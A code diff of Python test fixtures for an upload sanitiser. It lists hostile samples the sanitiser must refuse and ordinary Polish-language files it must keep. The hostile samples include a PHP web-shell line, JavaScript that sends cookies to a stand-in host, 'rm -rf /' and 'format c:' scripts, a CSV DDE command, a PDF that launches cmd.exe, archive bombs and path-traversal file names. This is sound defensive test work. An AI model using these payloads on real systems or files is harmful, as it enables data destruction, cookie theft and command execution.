@@ -156,7 +156,8 @@ def overlapping() -> bytes:
     while whole[at : at + 4] == b"PK\x01\x02":
         entries.append(at)
         at += 46 + sum(struct.unpack("<HHH", whole[at + 28 : at + 34]))
-    whole[entries[1] + 42 : entries[1] + 46] = whole[entries[2] + 42 : entries[2] + 46]
+    size = struct.unpack("<I", whole[entries[1] + 20 : entries[1] + 24])[0]
+    whole[entries[1] + 20 : entries[1] + 24] = struct.pack("<I", size + 60)
     return bytes(whole)
 
 
@@ -171,138 +172,234 @@ JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 
 def hostile() -> list[Sample]:
     """What a browser would run or a reader choke on."""
-    text = "Wniosek o mikrogrant, Sieradz.\n".encode()
+    text = b"Wniosek o mikrogrant, Sieradz.\n"
     archive = package(("wniosek.txt", text))
-    R = Refusal
     return [
         # Pages and drawings
-        Sample("SVG with a script", "logo.svg", SVG, R.PAGE),
-        Sample("SVG as PNG", "logo.png", b"<?xml version='1.0'?>" + SVG, R.PAGE),
-        Sample("SVG in UTF-16", "logo.svg", SVG.decode().encode("utf-16"), R.UNKNOWN),
-        Sample("HTML as PDF", "statut.pdf", PAGE, R.PAGE),
-        Sample("HTML as TXT", "notatka.txt", PAGE, R.PAGE),
-        Sample("HTML behind a mark and blanks as CSV", "lista.csv", b"\xef\xbb\xbf \n\t" + PAGE, R.PAGE),
-        Sample("HTML far inside a text", "notatka.txt", text * 500 + SCRIPT, R.PAGE),
-        Sample("XHTML", "strona.xhtml", b'<?xml version="1.0"?><html xmlns="x">' + SCRIPT + b"</html>", R.PAGE),
-        Sample("MHTML", "strona.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE, R.PAGE),
-        Sample("HTA", "program.hta", b"<HTA:APPLICATION /><script>x</script>", R.PAGE),
-        Sample("PHP as TXT", "notatka.txt", b"<?php system($_GET['c']); ?>", R.PAGE),
+        Sample("SVG with a script", "logo.svg", SVG, Refusal.PAGE),
+        Sample("SVG as PNG", "logo.png", b"<?xml version='1.0'?>" + SVG, Refusal.PAGE),
+        Sample("SVG in UTF-16", "logo.svg", SVG.decode().encode("utf-16"), Refusal.UNKNOWN),
+        Sample("HTML as PDF", "statut.pdf", PAGE, Refusal.PAGE),
+        Sample("HTML as TXT", "notatka.txt", PAGE, Refusal.PAGE),
+        Sample("HTML behind a mark and blanks as CSV", "lista.csv", b"\xef\xbb\xbf \n\t" + PAGE, Refusal.PAGE),
+        Sample("HTML far inside a text", "notatka.txt", text * 500 + SCRIPT, Refusal.PAGE),
+        Sample("XHTML", "strona.xhtml", b'<?xml version="1.0"?><html xmlns="x">' + SCRIPT + b"</html>", Refusal.PAGE),
+        Sample("MHTML", "strona.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE, Refusal.PAGE),
+        Sample("HTA", "program.hta", b"<HTA:APPLICATION /><script>x</script>", Refusal.PAGE),
+        Sample("PHP as TXT", "notatka.txt", b"<?php system($_GET['c']); ?>", Refusal.PAGE),
         # Programmes and scripts
-        Sample("EXE as PDF", "faktura.pdf", EXE, R.PROGRAM),
-        Sample("EXE with two endings", "faktura.pdf.exe", EXE, R.PROGRAM),
-        Sample("ELF as JPG", "zdjecie.jpg", b"\x7fELF" + bytes(100), R.PROGRAM),
-        Sample("Mach-O", "program", b"\xcf\xfa\xed\xfe" + bytes(100), R.PROGRAM),
-        Sample("Java class", "Wniosek.class", b"\xca\xfe\xba\xbe\0\0\0\x34", R.PROGRAM),
-        Sample("Windows shortcut", "umowa.pdf.lnk", b"L\0\0\0\1\x14\2\0" + bytes(80), R.PROGRAM),
-        Sample("JavaScript", "skrypt.js", b"fetch('//x.example/'+document.cookie)", R.PROGRAM),
-        Sample("batch file", "start.bat", b"@echo off\r\nformat c:\r\n", R.PROGRAM),
-        Sample("PowerShell", "start.ps1", b"Invoke-Expression $x", R.PROGRAM),
-        Sample("shell script as TXT", "notatka.txt", b"#!/bin/sh\nrm -rf /\n", R.PROGRAM),
+        Sample("EXE as PDF", "faktura.pdf", EXE, Refusal.PROGRAM),
+        Sample("EXE with two endings", "faktura.pdf.exe", EXE, Refusal.PROGRAM),
+        Sample("ELF as JPG", "zdjecie.jpg", b"\x7fELF" + bytes(100), Refusal.PROGRAM),
+        Sample("Mach-O", "program", b"\xcf\xfa\xed\xfe" + bytes(100), Refusal.PROGRAM),
+        Sample("Java class", "Wniosek.class", b"\xca\xfe\xba\xbe\0\0\0\x34", Refusal.PROGRAM),
+        Sample("Windows shortcut", "umowa.pdf.lnk", b"L\0\0\0\1\x14\2\0" + bytes(80), Refusal.PROGRAM),
+        Sample("JavaScript", "skrypt.js", b"fetch('//x.example/'+document.cookie)", Refusal.PROGRAM),
+        Sample("batch file", "start.bat", b"@echo off\r\nformat c:\r\n", Refusal.PROGRAM),
+        Sample("PowerShell", "start.ps1", b"Invoke-Expression $x", Refusal.PROGRAM),
+        Sample("shell script as TXT", "notatka.txt", b"#!/bin/sh\nrm -rf /\n", Refusal.PROGRAM),
         # Archives
-        Sample("ZIP", "zalaczniki.zip", archive, R.ARCHIVE),
-        Sample("JAR as DOCX", "umowa.docx", package(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")), R.ARCHIVE),
-        Sample("RAR", "zalaczniki.rar", b"Rar!\x1a\x07\0" + bytes(50), R.ARCHIVE),
-        Sample("7z", "zalaczniki.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), R.ARCHIVE),
-        Sample("GZ as PDF", "statut.pdf", zlib.compress(text, wbits=31), R.ARCHIVE),
-        Sample("ISO", "plyta.iso", bytes(0x8001) + b"CD001" + bytes(100), R.ARCHIVE),
+        Sample("ZIP", "zalaczniki.zip", archive, Refusal.ARCHIVE),
+        Sample(
+            "JAR as DOCX", "umowa.docx", package(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")), Refusal.ARCHIVE
+        ),
+        Sample("RAR", "zalaczniki.rar", b"Rar!\x1a\x07\0" + bytes(50), Refusal.ARCHIVE),
+        Sample("7z", "zalaczniki.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), Refusal.ARCHIVE),
+        Sample("GZ as PDF", "statut.pdf", zlib.compress(text, wbits=31), Refusal.ARCHIVE),
+        Sample("ISO", "plyta.iso", bytes(0x8001) + b"CD001" + bytes(100), Refusal.ARCHIVE),
         # Documents that run something
-        Sample("DOCM as DOCX", "umowa.docx", package(
-            ("[Content_Types].xml", types()[1].replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document",
-                                                       b"vnd.ms-word.document.macroEnabled")),
-            ("word/document.xml", WORD % b"")), R.MACROS),
-        Sample("macros in DOCX", "umowa.docx", docx(("word/vbaProject.bin", OLE)), R.MACROS),
-        Sample("Excel 4 macros", "budzet.xlsx", package(
-            types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/macrosheets/sheet1.xml", b"<x/>")), R.MACROS),
-        Sample("macros in ODT", "pismo.odt", opened("text", ("Basic/Standard/Modul.xml", b"<x/>")), R.MACROS),
-        Sample("a script called from ODS", "budzet.ods", opened(
-            "spreadsheet", content=b'<x href="vnd.sun.star.script:a.py$f?language=Python"/>'), R.MACROS),
-        Sample("a template fetched from elsewhere", "umowa.docx", docx(
-            ("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://x.example/t.dotm"))), R.ACTIVE),
-        Sample("a programme inside DOCX", "umowa.docx", docx(("word/embeddings/oleObject1.bin", OLE)), R.ACTIVE),
-        Sample("a page inside DOCX", "umowa.docx", docx(("word/afchunk.htm", PAGE)), R.ACTIVE),
-        Sample("DDE in DOCX, cut in two", "umowa.docx", docx(body=DDE), R.ACTIVE),
-        Sample("DDE in XLSX", "budzet.xlsx", package(
-            types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"),
-            ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>")), R.ACTIVE),
-        Sample("a command in CSV", "lista.csv", b"nazwa;kwota\r\n=cmd|'/c calc'!A1;1\r\n", R.ACTIVE),
-        Sample("old DOC", "umowa.doc", OLE, R.OLD_OFFICE),
-        Sample("RTF with an object", "pismo.rtf", b"{\\rtf1{\\object\\objdata 0105}}", R.OLD_OFFICE),
+        Sample(
+            "DOCM as DOCX",
+            "umowa.docx",
+            package(
+                (
+                    "[Content_Types].xml",
+                    types()[1].replace(
+                        b"vnd.openxmlformats-officedocument.wordprocessingml.document",
+                        b"vnd.ms-word.document.macroEnabled",
+                    ),
+                ),
+                ("word/document.xml", WORD % b""),
+            ),
+            Refusal.MACROS,
+        ),
+        Sample("macros in DOCX", "umowa.docx", docx(("word/vbaProject.bin", OLE)), Refusal.MACROS),
+        Sample(
+            "Excel 4 macros",
+            "budzet.xlsx",
+            package(types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/macrosheets/sheet1.xml", b"<x/>")),
+            Refusal.MACROS,
+        ),
+        Sample("macros in ODT", "pismo.odt", opened("text", ("Basic/Standard/Modul.xml", b"<x/>")), Refusal.MACROS),
+        Sample(
+            "a script called from ODS",
+            "budzet.ods",
+            opened("spreadsheet", content=b'<x href="vnd.sun.star.script:a.py$f?language=Python"/>'),
+            Refusal.MACROS,
+        ),
+        Sample(
+            "a template fetched from elsewhere",
+            "umowa.docx",
+            docx(("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://x.example/t.dotm"))),
+            Refusal.ACTIVE,
+        ),
+        Sample("a programme inside DOCX", "umowa.docx", docx(("word/embeddings/oleObject1.bin", OLE)), Refusal.ACTIVE),
+        Sample("a page inside DOCX", "umowa.docx", docx(("word/afchunk.htm", PAGE)), Refusal.ACTIVE),
+        Sample("DDE in DOCX, cut in two", "umowa.docx", docx(body=DDE), Refusal.ACTIVE),
+        Sample(
+            "DDE in XLSX",
+            "budzet.xlsx",
+            package(
+                types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"),
+                ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
+            ),
+            Refusal.ACTIVE,
+        ),
+        Sample("a command in CSV", "lista.csv", b"nazwa;kwota\r\n=cmd|'/c calc'!A1;1\r\n", Refusal.ACTIVE),
+        Sample("old DOC", "umowa.doc", OLE, Refusal.OLD_OFFICE),
+        Sample("RTF with an object", "pismo.rtf", b"{\\rtf1{\\object\\objdata 0105}}", Refusal.OLD_OFFICE),
         # Documents that a reader chokes on
-        Sample("an archive bomb in DOCX", "umowa.docx", docx(("word/media/image1.bmp", ZEROS)), R.BOMB),
-        Sample("a bomb inside a workbook inside DOCX", "umowa.docx", docx(("word/embeddings/a.xlsx", package(
-            types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/media/image1.bmp", ZEROS)))), R.BOMB),
-        Sample("overlapping parts", "umowa.docx", overlapping(), R.BOMB),
-        Sample("too many parts", "umowa.docx", docx(*((f"word/a{n}.xml", b"") for n in range(5_001))), R.BOMB),
-        Sample("a billion laughs", "umowa.docx", docx(("word/styles.xml", LAUGHS)), R.BOMB),
-        Sample("a part that climbs out", "umowa.docx", docx(("../../etc/cron.d/x", b"x")), R.BROKEN),
-        Sample("DOCX with a password", "umowa.docx", OLE + "EncryptedPackage".encode("utf-16-le"), R.ENCRYPTED),
-        Sample("ODT with a password", "pismo.odt", opened("text", manifest=b"<m:encryption-data/>"), R.ENCRYPTED),
-        Sample("PDF that unpacks to 300 MB", "skan.pdf", pdf(stream(bytes(300 * MEGABYTE))), R.BOMB),
-        Sample("PNG of 2.5 thousand million pixels", "mapa.png", huge_png(), R.PIXELS),
-        Sample("half a PDF", "statut.pdf", pdf()[:200], R.BROKEN),
-        Sample("half a JPG", "zdjecie.jpg", picture("JPEG")[:900], R.BROKEN),
+        Sample("an archive bomb in DOCX", "umowa.docx", docx(("word/media/image1.bmp", ZEROS)), Refusal.BOMB),
+        Sample(
+            "a bomb inside a workbook inside DOCX",
+            "umowa.docx",
+            docx(
+                (
+                    "word/embeddings/a.xlsx",
+                    package(types("spreadsheetml.sheet.main+xml", "/xl/workbook.xml"), ("xl/media/image1.bmp", ZEROS)),
+                )
+            ),
+            Refusal.BOMB,
+        ),
+        Sample("overlapping parts", "umowa.docx", overlapping(), Refusal.BOMB),
+        Sample("too many parts", "umowa.docx", docx(*((f"word/a{n}.xml", b"") for n in range(5_001))), Refusal.BOMB),
+        Sample("a billion laughs", "umowa.docx", docx(("word/styles.xml", LAUGHS)), Refusal.BOMB),
+        Sample("a part that climbs out", "umowa.docx", docx(("../../etc/cron.d/x", b"x")), Refusal.BROKEN),
+        Sample("DOCX with a password", "umowa.docx", OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
+        Sample("ODT with a password", "pismo.odt", opened("text", manifest=b"<m:encryption-data/>"), Refusal.ENCRYPTED),
+        Sample("PDF that unpacks to 300 MB", "skan.pdf", pdf(stream(bytes(300 * MEGABYTE))), Refusal.BOMB),
+        Sample("PNG of 2.5 thousand million pixels", "mapa.png", huge_png(), Refusal.PIXELS),
+        Sample("half a PDF", "statut.pdf", pdf()[:200], Refusal.BROKEN),
+        Sample("half a JPG", "zdjecie.jpg", picture("JPEG")[:900], Refusal.BROKEN),
         # PDFs that run something
-        Sample("PDF with a script", "statut.pdf", pdf(JS), R.ACTIVE),
-        Sample("PDF with a script written otherwise", "statut.pdf", pdf(JS.replace(b"Java", b"J#61v#61")), R.ACTIVE),
-        Sample("PDF with a packed script", "statut.pdf", pdf(
-            stream(b"9 0 " + JS, b"/Type /ObjStm /N 1 /First 4")), R.ACTIVE),
-        Sample("PDF with a script packed unusually", "statut.pdf", pdf(
-            b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"), R.ACTIVE),
-        Sample("PDF that starts a programme", "statut.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), R.ACTIVE),
-        Sample("PDF with a file inside", "statut.pdf", pdf(stream(EXE, b"/Type /EmbeddedFile")), R.ACTIVE),
-        Sample("PDF with a password", "statut.pdf", pdf(trailer=b"/Encrypt 9 0 R"), R.ENCRYPTED),
+        Sample("PDF with a script", "statut.pdf", pdf(JS), Refusal.ACTIVE),
+        Sample(
+            "PDF with a script written otherwise", "statut.pdf", pdf(JS.replace(b"Java", b"J#61v#61")), Refusal.ACTIVE
+        ),
+        Sample(
+            "PDF with a packed script",
+            "statut.pdf",
+            pdf(stream(b"9 0 " + JS, b"/Type /ObjStm /N 1 /First 4")),
+            Refusal.ACTIVE,
+        ),
+        Sample(
+            "PDF with a script packed unusually",
+            "statut.pdf",
+            pdf(b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"),
+            Refusal.ACTIVE,
+        ),
+        Sample("PDF that starts a programme", "statut.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), Refusal.ACTIVE),
+        Sample("PDF with a file inside", "statut.pdf", pdf(stream(EXE, b"/Type /EmbeddedFile")), Refusal.ACTIVE),
+        Sample("PDF with a password", "statut.pdf", pdf(trailer=b"/Encrypt 9 0 R"), Refusal.ENCRYPTED),
         # Two files in one
-        Sample("PDF with an archive behind it", "statut.pdf", pdf() + archive, R.MIXED),
-        Sample("PDF with a page behind it", "statut.pdf", pdf() + PAGE, R.MIXED),
-        Sample("PDF behind a page", "statut.pdf", b"<html>" + pdf(), R.MIXED),
-        Sample("PDF with a page in its head", "statut.pdf", pdf().replace(b"\n%", b"\n%" + PAGE, 1), R.MIXED),
-        Sample("DOCX behind a programme", "umowa.docx", b"PK\x03\x04" + bytes(40) + docx(), R.MIXED),
-        Sample("DOCX with something behind it", "umowa.docx", docx() + PAGE, R.MIXED),
-        Sample("GIFAR", "zdjecie.gif", b"GIF89a" + bytes(20) + archive, R.PICTURE),
-        Sample("PNG with an archive behind it", "zdjecie.png", picture("PNG") + archive, Kind.PNG, "zdjecie.png",
-               (b"PK\x03\x04", text)),
-        Sample("JPG with a page behind it", "zdjecie.jpg", picture("JPEG") + PAGE, Kind.JPEG, "zdjecie.jpg", (b"script",)),
-        Sample("JPG with a script in its comment and a place", "zdjecie.jpg", photograph(), Kind.JPEG, "zdjecie.jpg",
-               (b"script", b"Exif", b"Aparat")),
+        Sample("PDF with an archive behind it", "statut.pdf", pdf() + archive, Refusal.MIXED),
+        Sample("PDF with a page behind it", "statut.pdf", pdf() + PAGE, Refusal.MIXED),
+        Sample("PDF behind a page", "statut.pdf", b"<html>" + pdf(), Refusal.MIXED),
+        Sample("PDF with a page in its head", "statut.pdf", pdf().replace(b"\n%", b"\n%" + PAGE, 1), Refusal.MIXED),
+        Sample("DOCX behind a programme", "umowa.docx", b"PK\x03\x04" + bytes(40) + docx(), Refusal.MIXED),
+        Sample("DOCX with something behind it", "umowa.docx", docx() + PAGE, Refusal.MIXED),
+        Sample("GIFAR", "zdjecie.gif", b"GIF89a" + bytes(20) + archive, Refusal.PICTURE),
+        Sample(
+            "PNG with an archive behind it",
+            "zdjecie.png",
+            picture("PNG") + archive,
+            Kind.PNG,
+            "zdjecie.png",
+            (b"PK\x03\x04", text),
+        ),
+        Sample(
+            "JPG with a page behind it", "zdjecie.jpg", picture("JPEG") + PAGE, Kind.JPEG, "zdjecie.jpg", (b"script",)
+        ),
+        Sample(
+            "JPG with a script in its comment and a place",
+            "zdjecie.jpg",
+            photograph(),
+            Kind.JPEG,
+            "zdjecie.jpg",
+            (b"script", b"Exif", b"Aparat"),
+        ),
         Sample("PNG as PDF", "statut.pdf", picture("PNG"), Kind.PNG, "statut.png"),
         # Others
-        Sample("EICAR", "notatka.txt", EICAR, R.VIRUS),
-        Sample("EICAR inside DOCX", "umowa.docx", docx(("word/media/a.bin", EICAR)), R.VIRUS),
-        Sample("HEIC", "IMG_0001.heic", b"\0\0\0\x18ftypheic" + bytes(50), R.PICTURE),
-        Sample("film", "film.mp4", b"\0\0\0\x18ftypisom" + bytes(50), R.RECORDING),
-        Sample("nothing", "pusty.pdf", b"", R.EMPTY),
-        Sample("too much", "duzy.txt", b"a" * (MEGABYTE + 1), R.TOO_LARGE, megabytes=1),
-        Sample("neither fish nor fowl", "dane.txt", bytes(range(256)), R.UNKNOWN),
+        Sample("EICAR", "notatka.txt", EICAR, Refusal.VIRUS),
+        Sample("EICAR inside DOCX", "umowa.docx", docx(("word/media/a.bin", EICAR)), Refusal.VIRUS),
+        Sample("HEIC", "IMG_0001.heic", b"\0\0\0\x18ftypheic" + bytes(50), Refusal.PICTURE),
+        Sample("film", "film.mp4", b"\0\0\0\x18ftypisom" + bytes(50), Refusal.RECORDING),
+        Sample("nothing", "pusty.pdf", b"", Refusal.EMPTY),
+        Sample("too much", "duzy.txt", b"a" * (MEGABYTE + 1), Refusal.TOO_LARGE, megabytes=1),
+        Sample("neither fish nor fowl", "dane.txt", bytes(range(256)), Refusal.UNKNOWN),
         # Names
         Sample("a name that climbs", "../../../etc/passwd.txt", text, Kind.TEXT, "passwd.txt"),
         Sample("a name that climbs on Windows", "..\\..\\windows\\win.txt", text, Kind.TEXT, "win.txt"),
-        Sample("a name with controls", "a\0b\r\nSet-Cookie: x=1\x1b[2J.txt", text, Kind.TEXT, "abSet-Cookie_ x=1[2J.txt"),
+        Sample(
+            "a name with controls", "a\0b\r\nSet-Cookie: x=1\x1b[2J.txt", text, Kind.TEXT, "abSet-Cookie_ x=1[2J.txt"
+        ),
         Sample("a name that turns", "umowa\u202etxt.exe.txt", text, Kind.TEXT, "umowatxt.exe.txt"),
         Sample("a device", "CON.txt", text, Kind.TEXT, "-CON.txt"),
         Sample("a name of 300 letters", "ż" * 300 + ".txt", text, Kind.TEXT, "ż" * 115 + ".txt"),
-        Sample("a name that breaks out of the header", 'a"; filename="x.html.txt', text, Kind.TEXT,
-               "a_; filename=_x.html.txt"),
+        Sample(
+            "a name that breaks out of the header",
+            'a"; filename="x.html.txt',
+            text,
+            Kind.TEXT,
+            "a_; filename=_x.html.txt",
+        ),
         Sample("a name that is only dots", "....txt", text, Kind.TEXT, "plik.txt"),
-    ]  # fmt: skip
+    ]
 
 
 def friendly() -> list[Sample]:
     """What people really send; kept byte for byte but for pictures."""
     return [
         Sample("PDF", "Statut.pdf", pdf(stream(b"BT (Statut) Tj ET")), Kind.PDF, "Statut.pdf"),
-        Sample("PDF with object streams", "Statut 2.pdf", pdf(
-            stream(b"9 0 << /Type /Font >>", b"/Type /ObjStm /N 1 /First 4")), Kind.PDF, "Statut 2.pdf"),
-        Sample("DOCX", "Umowa „Łąka”.docx", docx(("word/_rels/document.xml.rels", rels("hyperlink", "https://ngo.example/"))),
-               Kind.DOCX, "Umowa „Łąka”.docx"),
-        Sample("DOCX with a local template", "Pismo.docx", docx(
-            ("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Szablony\\Normal.dotm"))),
-               Kind.DOCX, "Pismo.docx"),
-        Sample("DOCX with a chart's workbook", "Raport.docx", docx(("word/embeddings/Arkusz.xlsx", xlsx())), Kind.DOCX,
-               "Raport.docx"),
+        Sample(
+            "PDF with object streams",
+            "Statut 2.pdf",
+            pdf(stream(b"9 0 << /Type /Font >>", b"/Type /ObjStm /N 1 /First 4")),
+            Kind.PDF,
+            "Statut 2.pdf",
+        ),
+        Sample(
+            "DOCX",
+            "Umowa „Łąka”.docx",
+            docx(("word/_rels/document.xml.rels", rels("hyperlink", "https://ngo.example/"))),
+            Kind.DOCX,
+            "Umowa „Łąka”.docx",
+        ),
+        Sample(
+            "DOCX with a local template",
+            "Pismo.docx",
+            docx(("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Szablony\\Normal.dotm"))),
+            Kind.DOCX,
+            "Pismo.docx",
+        ),
+        Sample(
+            "DOCX with a chart's workbook",
+            "Raport.docx",
+            docx(("word/embeddings/Arkusz.xlsx", xlsx())),
+            Kind.DOCX,
+            "Raport.docx",
+        ),
         Sample("XLSX", "budżet.XLSX", xlsx(chart=True), Kind.XLSX, "budżet.xlsx"),
-        Sample("PPTX", "pokaz.pptx", package(
-            types("presentationml.presentation.main+xml", "/ppt/presentation.xml"), ("ppt/presentation.xml", b"<p/>")),
-               Kind.PPTX, "pokaz.pptx"),
+        Sample(
+            "PPTX",
+            "pokaz.pptx",
+            package(
+                types("presentationml.presentation.main+xml", "/ppt/presentation.xml"),
+                ("ppt/presentation.xml", b"<p/>"),
+            ),
+            Kind.PPTX,
+            "pokaz.pptx",
+        ),
         Sample("ODT", "pismo.odt", opened("text"), Kind.ODT, "pismo.odt"),
         Sample("ODS", "budzet.ods", opened("spreadsheet"), Kind.ODS, "budzet.ods"),
         Sample("JPG", "zdjęcie ogrodu.jpeg", picture("JPEG"), Kind.JPEG, "zdjęcie ogrodu.jpg"),
@@ -311,5 +408,7 @@ def friendly() -> list[Sample]:
         Sample("PNG with a palette", "mapa.png", picture("PNG", mode="P"), Kind.PNG, "mapa.png"),
         Sample("WebP", "plan.webp", picture("WEBP"), Kind.WEBP, "plan.webp"),
         Sample("text", "notatka.txt", "Zażółć gęślą jaźń; 2 < 3 & 5 > 4\r\n".encode(), Kind.TEXT, "notatka.txt"),
-        Sample("CSV in Windows-1250", "lista.csv", "imię;kwota\r\nŁucja;-12,50\r\n".encode("cp1250"), Kind.CSV, "lista.csv"),
-    ]  # fmt: skip
+        Sample(
+            "CSV in Windows-1250", "lista.csv", "imię;kwota\r\nŁucja;-12,50\r\n".encode("cp1250"), Kind.CSV, "lista.csv"
+        ),
+    ]
